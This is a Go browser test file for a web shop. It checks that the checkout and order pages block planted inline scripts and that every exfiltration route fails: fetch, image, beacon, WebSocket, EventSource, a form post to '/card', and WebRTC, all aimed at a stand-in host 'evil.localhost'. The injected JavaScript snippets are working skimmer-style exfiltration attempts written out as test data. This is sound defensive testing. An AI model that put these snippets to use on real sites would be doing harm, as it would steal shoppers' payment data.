//go:build browser

package attack

import (
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"

	"strongroom/base/db"
	"strongroom/base/lang"
	"strongroom/tools/journey/chrome"
	"strongroom/tools/journey/stage"
	"strongroom/tools/journey/tour"
)

// shopper is somebody with a real browser in the altered shop, who believes the keys of others that are named.
func (x *skimmed) shopper(t *testing.T, others ...[]byte) *tour.Guide {
	t.Helper()
	b, err := os.ReadFile(x.Certificate())
	fatal(t, err)
	block, _ := pem.Decode(b)
	leaf, err := x509.ParseCertificate(block.Bytes)
	fatal(t, err)
	var keys []string
	for _, spki := range append(others, leaf.RawSubjectPublicKeyInfo) {
		sum := sha256.Sum256(spki)
		keys = append(keys, base64.StdEncoding.EncodeToString(sum[:]))
	}
	browser, err := chrome.Open(t.Context(), keys)
	fatal(t, err)
	t.Cleanup(browser.Close)
	texts, err := lang.Load(lang.Messages())
	fatal(t, err)
	g := &tour.Guide{Page: browser.Page(t, chrome.Options{Width: 1280, Height: 900}), P: texts.For("en"), Lang: "en", Demo: &stage.Demo{Shop: x.Shop}}
	t.Cleanup(g.Close)
	return g
}

// inlineBlocked has a browser open an altered page: the script on it does not run.
func (x *skimmed) inlineBlocked(t *testing.T) string {
	if !full && x.Engine != db.SQLite {
		return ""
	}
	x.put(`<script>window.skimmed = 1</script><p id="planted" onclick="window.skimmed = 2">x</p>`, nil)
	g := x.shopper(t)
	g.Add("/p/bowl")
	for _, path := range []string{"/cart", "/checkout", "/order/link"} {
		g.Goto(g.To(path))
		if !g.Has("#planted") {
			t.Fatalf("%s: nothing was planted", path)
		}
		g.Eval(`document.querySelector("#planted").click()`, nil)
		if g.Bool("window.skimmed") {
			t.Errorf("%s: a planted script ran", path)
		}
	}
	if said := strings.Join(g.Troubles(), " "); !strings.Contains(said, "script-src") {
		t.Errorf("the browser says nothing of the script: %q", said)
	}
	return "; none ran in Chromium"
}

// nothingLeaves has the pages of the checkout try every way themselves, as code would that got past everything else: the
// debugger runs it. Nothing reaches the foreign host over HTTP, WebSocket, a form or WebRTC.
func (x *skimmed) nothingLeaves(t *testing.T) string {
	if !full && x.Engine != db.SQLite {
		return ""
	}
	far := openThief(t)
	g := x.shopper(t, far.Certificate().RawSubjectPublicKeyInfo)
	_, port, err := net.SplitHostPort(strings.TrimPrefix(far.URL, "https://"))
	fatal(t, err)
	lair := "evil.localhost:" + port
	g.Goto("https://" + lair + "/") // the control: the browser can reach it
	if far.came.Swap(0) == 0 {
		t.Fatal("the foreign host cannot be reached: this test would see nothing")
	}
	g.Add("/p/bowl")
	for _, path := range []string{"/checkout", "/order/link"} {
		g.Goto(g.To(path))
		var tried map[string]string
		var raw json.RawMessage
		g.Eval(fmt.Sprintf(tries, lair, far.udp.LocalAddr().String()), &raw)
		fatal(t, json.Unmarshal(raw, &tried))
		for _, way := range []string{"fetch", "image", "beacon", "socket", "source"} {
			if tried[way] != "refused" {
				t.Errorf("%s: %s was %q", path, way, tried[way])
			}
		}
		g.Eval(`(() => { const f = document.createElement("form"); f.method = "post"; f.action = "https://`+lair+`/card"; document.body.append(f); f.submit() })()`, nil)
		for range 50 { // the browser refuses a moment later
			g.Wait("the page", "true")
		}
		if !strings.HasPrefix(g.URL(), x.Shop) {
			t.Errorf("%s: a form led away to %s", path, g.URL())
		}
		if n := far.came.Swap(0); n > 0 {
			t.Errorf("%s: the foreign host was reached %d times", path, n)
		}
	}
	if n := far.packets.Load(); n > 0 {
		t.Errorf("%d packets of WebRTC reached the foreign host", n)
	}
	heeded := x.policiesAgainstWebRTC(t, g, far, lair)
	g.Troubles()
	return "; in Chromium fetch, image, beacon, WebSocket, event source, form and WebRTC reached nobody, run by a debugger; " + heeded
}

// policiesAgainstWebRTC tries on a page of its own what is written to forbid WebRTC, so that it is known what holds it
// off: without a policy the browser gathers candidates, with the one that the shop sends it does not, and of the others
// docs/payment-pages.md says whether this browser heeds them.
func (x *skimmed) policiesAgainstWebRTC(t *testing.T, g *tour.Guide, far *thief, lair string) string {
	var told []string
	for _, try := range []struct {
		policy string
		heeded bool
	}{
		{"", false},
		{"Content-Security-Policy: webrtc 'block'", false},
		{"Content-Security-Policy: default-src 'none'; connect-src 'none'; webrtc 'block'", false},
		{"Permissions-Policy: webrtc=(), camera=(), microphone=()", false},
		{"Connection-Allowlist: (response-origin);redirects=allow;webrtc=block", true},
	} {
		far.policy.Store(try.policy)
		g.Goto("https://" + lair + "/page")
		far.packets.Store(0)
		g.Eval(fmt.Sprintf(gathers, far.udp.LocalAddr().String()), nil)
		if heeded := far.packets.Load() == 0; heeded != try.heeded {
			t.Errorf("%q: heeded %v (docs/payment-pages.md says otherwise)", try.policy, heeded)
		} else if heeded {
			name, _, _ := strings.Cut(try.policy, ":")
			told = append(told, name)
		}
	}
	return fmt.Sprintf("%s heeds %s and no other policy against it", g.String(`navigator.userAgent.match(/Chrome\/\d+/)[0]`), strings.Join(told, ", "))
}

// gathers asks a server of the attacker for the browser's address, as every WebRTC connection begins.
const gathers = `(async () => {
  let c;
  try { c = new RTCPeerConnection({iceServers: [{urls: "stun:%s"}]}) } catch (e) { return }
  c.createDataChannel("x");
  await c.setLocalDescription(await c.createOffer());
  await new Promise(r => { if (c.iceGatheringState === "complete") r(); c.onicegatheringstatechange = () => { if (c.iceGatheringState === "complete") r() }; setTimeout(r, 3000) });
  c.close();
})()`

// tries is what a page does that wants to reach another host. It answers with how each way ended.
const tries = `(async () => {
  const far = %q, stun = %q, out = {};
  const timed = (name, p) => Promise.race([p, new Promise(r => setTimeout(() => r("nothing"), 1500))]).then(v => { out[name] = v });
  await Promise.all([
    timed("fetch", fetch("https://" + far + "/f", {mode: "no-cors"}).then(() => "done", () => "refused")),
    timed("image", new Promise(r => { const i = new Image(); i.onload = () => r("done"); i.onerror = () => r("refused"); i.src = "https://" + far + "/i" })),
    timed("beacon", new Promise(r => { document.addEventListener("securitypolicyviolation", e => { if (e.blockedURI.endsWith("/b") || e.effectiveDirective === "connect-src") r("refused") }); navigator.sendBeacon("https://" + far + "/b", "x") })),
    timed("socket", new Promise(r => { try { const s = new WebSocket("wss://" + far + "/s"); s.onopen = () => r("done"); s.onerror = () => r("refused") } catch (e) { r("refused") } })),
    timed("source", new Promise(r => { try { const s = new EventSource("https://" + far + "/e"); s.onopen = () => r("done"); s.onerror = () => { s.close(); r("refused") } } catch (e) { r("refused") } })),
    timed("rtc", (async () => { try { const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + stun}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer());
      return await new Promise(r => { c.onicecandidateerror = () => r("refused"); c.onicegatheringstatechange = () => { if (c.iceGatheringState === "complete") r("nothing") } }) } catch (e) { return "refused" } })()),
  ]);
  return out;
})()`
